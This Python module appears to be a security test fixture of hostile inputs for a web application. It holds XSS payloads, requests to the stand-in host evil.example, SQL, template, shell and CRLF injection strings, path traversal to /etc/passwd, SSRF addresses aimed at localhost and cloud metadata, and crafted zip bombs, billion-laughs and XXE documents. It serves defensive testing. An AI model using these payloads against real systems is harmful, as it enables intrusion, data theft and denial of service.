"""Hostile input: what people send who want to run a script, leave the page, break a parser or mislead a reader.

`TEXTS` go into every field, `ADDRESSES` wherever an address is asked for, `FILES` wherever a file is taken. A script
that runs sets `owned` on the window; a request that leaves goes to evil.example.
"""

import base64
import io
import zipfile
import zlib
from itertools import product

RUN = "window.owned=1"
EVIL = "https://evil.example"

# Ways to run a script, and what they may stand in and must break out of.
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]
BREAKOUTS = ["{}", '"{}', "'>{}", '">{}<!--', "</textarea>{}", "</title>{}", "</script>{}", "]]>{}", "--!>{}", "<<{}"]
POLYGLOTS = [breakout.format(script) for script, breakout in product(SCRIPTS, BREAKOUTS)]

ATTRIBUTES = [
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"` onclick=`{RUN}",
    f'x" style="background:url({EVIL}/x)',
    f'"><base href="{EVIL}/">',
    f'"><meta http-equiv="refresh" content="0;url={EVIL}">',
    f'"><link rel="stylesheet" href="{EVIL}/x.css">',
    f'"><form action="{EVIL}"><button>Sign in</button>',
    f'"><object data="{EVIL}/x"></object>',
    f'"><embed src="{EVIL}/x">',
    f'"><video poster="{EVIL}/x"></video>',
    f'"><img srcset="{EVIL}/x 1x">',
    f'"><style>@import "{EVIL}/x.css";</style>',
    f'"><portal src="{EVIL}"></portal>',
    f'"><template><img src="{EVIL}/x"></template>',
    f"\"><iframe src='{EVIL}'>",
]

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](data:text/html;base64,{base64.b64encode(SCRIPTS[0].encode()).decode()})",
    f"[x](vbscript:{RUN})",
    f'[x]({EVIL} "onmouseover={RUN}")',
    f"![x]({EVIL}/pixel.png)",
    f'![x]({EVIL}/pixel.png "x" onload={RUN})',
    f"![x](x onerror={RUN})",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"[x][y]\n\n[y]: javascript:{RUN} 'z'",
    f"```html\n{SCRIPTS[0]}\n```",
    f"`{SCRIPTS[1]}`",
    f"    {SCRIPTS[0]}",
    f"> {SCRIPTS[1]}",
    f"- {SCRIPTS[2]}",
    f"# {SCRIPTS[0]}",
    f"| a |\n| - |\n| {SCRIPTS[1]} |",
    f"<div markdown=1>{SCRIPTS[1]}</div>",
    "[" * 500 + "x" + "](y)" * 500,
    "*" * 2000,
    "> " * 500 + "x",
    "`" * 1999,
    "![" * 700 + "x",
    "<" * 2000,
    "&" * 1999 + ";",
    "~~" * 900 + "x",
    "1. " * 600,
    "\\" * 1999,
    "a**b" * 450,
]

SVG = [
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml;base64,{base64.b64encode(b"<svg id=x onload=owned=1>").decode()}#x"/></svg>',
    f'<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    f'<svg><image href="{EVIL}/x.png"/></svg>',
    f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>',
    f"<math href=javascript:{RUN}>x</math>",
    f"<svg><style>@import url({EVIL}/x)</style></svg>",
    f'<?xml-stylesheet href="{EVIL}/x.xsl"?><x/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    f'<!DOCTYPE x SYSTEM "{EVIL}/x.dtd"><x/>',
]

# What a reader sees is not what is there.
MISLEADING = [
    "user\u202etxt.exe",
    "\u2066\u202ethe claim is false\u2069",
    "\u202d" * 200 + "left to right",
    "\u061cx\u200ey\u200fz",
    "аррӏе.com",  # Cyrillic
    "раураl",
    "ехаmрlе.оrg",
    "Ｆｕｌｌｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞",
    "𝓂𝒶𝓉𝒽 𝓁ℯ𝓉𝓉ℯ𝓇𝓈",
    "ſcript and K (Kelvin)",
    "zero\u200bwidth\u200cjoiner\u200d\u2060\ufeff",
    "soft\u00adhyphen",
    "tag\U000e0041\U000e0042\U000e007f",
    "e\u0301" * 300,
    "Z" + "\u0300\u0316\u0489" * 300,
    "\u115f\u1160\u3164\uffa0 blank letters",
    "\u2028line\u2029separator",
    "‮<script>‬",
    "﷽" * 200,
    "👩‍👩‍👧‍👦" * 80,
    "ؐؑؒ" * 100,
    "ﬀ ligatures ﬃ and ß İ ı",
    "x" * 1999,
    "W" * 1000 + "\u00a0" * 900,
    "\t\v\f\r\n\x85 spaces \u3000\u2003",
    "\x01\x02\x1b[31mred\x1b[0m\x7f\x9b31m",
]

PARSERS = [
    *(
        "' OR '1'='1",
        "'; DROP TABLE person;--",
        '" UNION SELECT password_hash FROM person --',
        "1); DELETE FROM claim;",
    ),
    *("%' AND 1=1 --", "\\'; SELECT pg_sleep(9);--", "x' || (SELECT secret FROM second_factor) || '", "%%%", "_%_"),
    *('"*" AND NEAR(x', "x* OR", '"unclosed', "NOT", "a:b:c", "{col} : x", "^x", "-x", "x AND AND y", "((((x"),
    *("{{7*7}}", "{% raw %}{{ config }}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{ ''.__class__.__mro__ }}", "%(x)s {0}"),
    *(
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd%00.png",
        "....//....//x",
        "file:///etc/passwd",
    ),
    *("x\r\nSet-Cookie: owned=1", "x\r\n\r\n<script>", "x%0d%0aLocation:%20//evil.example", "\n.\r\nRCPT TO:<x>"),
    *("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1", '"=HYPERLINK(""https://evil.example"")"', ";=1"),
    *("; id", "| id", "`id`", "$(id)", "&& id", "() { :; }; id"),
    *(
        '{"$gt": ""}',
        "[]",
        "null",
        "true",
        "NaN",
        "1e999",
        "-0",
        "0x10",
        "1" * 400,
        "\ud83d"[:0] + "\\ud83d",
        "\\u0000",
    ),
    *("<![CDATA[x]]>", "<!-- x", "&lt;script&gt;", "&amp;lt;", "&#0;", "&#x110000;", "&nosuch;", "<x:y z>", "</p>"),
    *("(a+)+" * 50, "a" * 1990 + "!", "," * 1999, "« „ “ ” »" * 200, "„“" * 900, "and " * 480, "1,000,000.00.0." * 120),
]

TEXTS = list(dict.fromkeys([*POLYGLOTS, *ATTRIBUTES, *MARKDOWN, *SVG, *MISLEADING, *PARSERS]))

_PRIVATE = ["127.0.0.1", "169.254.169.254", "10.0.0.1"]


def _notations(address: str) -> list[str]:
    """One IPv4 address as the clients and libraries of the world write it."""
    a, b, c, d = map(int, address.split("."))
    whole = (a << 24) | (b << 16) | (c << 8) | d
    low = f"{(a << 8) | b:x}:{(c << 8) | d:x}"
    return [
        *(
            address,
            str(whole),
            hex(whole),
            f"0{whole:o}",
            f"0x{a:x}.0x{b:x}.0x{c:x}.0x{d:x}",
            f"0{a:o}.0{b:o}.0{c:o}.0{d:o}",
        ),
        *(f"{a}.{(b << 16) | (c << 8) | d}", f"{a}.{b}.{(c << 8) | d}", f"0{a:o}.{b}.{c}.{d}"),
        *(f"[::ffff:{address}]", f"[::ffff:{low}]", f"[64:ff9b::{low}]", f"[2002:{low}::]", f"[::{low}]"),
        *(f"[::ffff:0:{low}]", f"[64:ff9b:1::{low}]", f"[2001:0:{low}::1]", f"{a}。{b}。{c}。{d}"),
    ]


ADDRESSES = [
    *(f"http://{notation}/" for address in _PRIVATE for notation in _notations(address)),
    *(
        "http://localhost/",
        "http://LOCALHOST:8000/",
        "http://localhost./",
        "http://[::]/",
        "http://[::1]:80/",
        "http://0/",
    ),
    *(
        "http://x@127.0.0.1/",
        "http://evil.example@127.0.0.1/",
        "http://127.0.0.1#@example.org/",
        "http://[fe80::1%25lo]/",
    ),
    *(
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1/",
        "ftp://127.0.0.1/",
        "jar:http://x!/",
    ),
    *(
        "javascript:alert(1)",
        "data:text/html,<script>",
        "vbscript:x",
        "//127.0.0.1/",
        "http:127.0.0.1",
        "http:///x",
        "http://",
    ),
    *(
        "http://\u2460\u2461\u2466.0.0.1/",
        "http://127.0.0.1\\@example.org/",
        "http://exa mple.org/",
        "http://a\r\nb/",
        "http://:80/",
    ),
]


def _zip(**members: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return packed.getvalue()


_WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
_LAUGHS = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))


def _pdf(stream: bytes) -> bytes:
    """A PDF of one page whose content is this stream, packed."""
    packed = zlib.compress(stream, 9)
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\n"
        b"endstream endobj\ntrailer<</Root 1 0 R>>\n" % (len(packed), packed)
    )


FILES: dict[str, bytes] = {
    "zip-bomb.docx": _zip(**{"word__document.xml": _WORD % (b"<w:p/>" * 3_000_000)}),
    "many.docx": _zip(**{f"word__{number}.xml": b"" for number in range(3_000)}),
    "laughs.docx": _zip(
        **{
            "word__document.xml": b'<!DOCTYPE x [<!ENTITY e0 "ha">%s]>' % _LAUGHS
            + _WORD % b"<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>"
        }
    ),
    "passwd.docx": _zip(
        **{"word__document.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + _WORD % b"<w:p>&e;</w:p>"}
    ),
    "elsewhere.docx": _zip(**{"../../escaped": b"x", "word__document.xml": _WORD % b""}),
    "nested.docx": _zip(**{"word__document.xml": _zip(x=_zip(y=b"z"))}),
    "empty.docx": _zip(),
    "cut.docx": _zip(**{"word__document.xml": _WORD % b"<w:p/>"})[:-30],
    "bomb.pdf": _pdf(b"0 " * 10_000_000),
    "deep.pdf": b"%PDF-1.4\n1 0 obj" + b"[" * 100_000 + b"\ntrailer<</Root 1 0 R>>",
    "loop.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\ntrailer<</Root 1 0 R/Prev 0>>",
    "pages.pdf": b"%PDF-1.4\n1 0 obj<</Type/Pages/Count 999999999/Kids[]>>endobj\ntrailer<</Root<</Pages 1 0 R>>>>",
    "empty.pdf": b"%PDF-",
    "deep.html": b"<html><body>" + b"<div>" * 100_000 + b"x",
    "attributes.html": b"<html><body " + b" ".join(b"a%d=x" % n for n in range(50_000)) + b">x",
    "entities.html": b"<html><body>" + b"&lt;" * 500_000,
    "laughs.html": b'<!DOCTYPE html [<!ENTITY e0 "ha">%s]><html><body>&e11;</body></html>' % _LAUGHS,
    "script.html": (
        "<html><body>" + "".join(f"<p>{script} words that make a paragraph of the text.</p>" for script in SCRIPTS)
    ).encode(),
    "brackets.txt": b"[" * 100_000 + b"]" * 100_000,
    "quotes.txt": "„“«»\"'".encode() * 20_000,
    "one-line.txt": b"word " * 190_000,
    "no-space.txt": b"x" * 900_000,
    "marks.txt": ("a" + "\u0301" * 400_000).encode(),
    "utf-16.txt": "A text.".encode("utf-16"),
    "binary.txt": bytes(range(256)) * 200,
    "nul.txt": b"A text.\0" * 1000,
}
